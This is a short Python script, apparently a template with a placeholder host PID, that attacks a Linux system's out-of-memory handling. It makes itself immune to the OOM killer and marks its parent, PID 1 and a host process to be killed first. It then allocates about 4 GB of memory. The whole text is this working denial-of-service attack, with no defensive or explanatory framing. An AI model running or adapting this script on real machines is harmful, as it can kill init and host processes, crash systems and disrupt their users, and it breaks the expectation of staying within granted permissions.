# tells the kernel to kill anyone else first, then takes memory
import os
for pid in ("self", str(os.getppid()), "1", "@HOST_PID@"):
    try:
        with open(f"/proc/{pid}/oom_score_adj", "w") as handle:
            handle.write("-1000" if pid == "self" else "1000")
        print("changed", pid)
    except OSError as error:
        print(pid, error)
held = []
for _ in range(64):
    held.append(bytearray(os.urandom(1 << 16)) * 1024)
print(len(held))
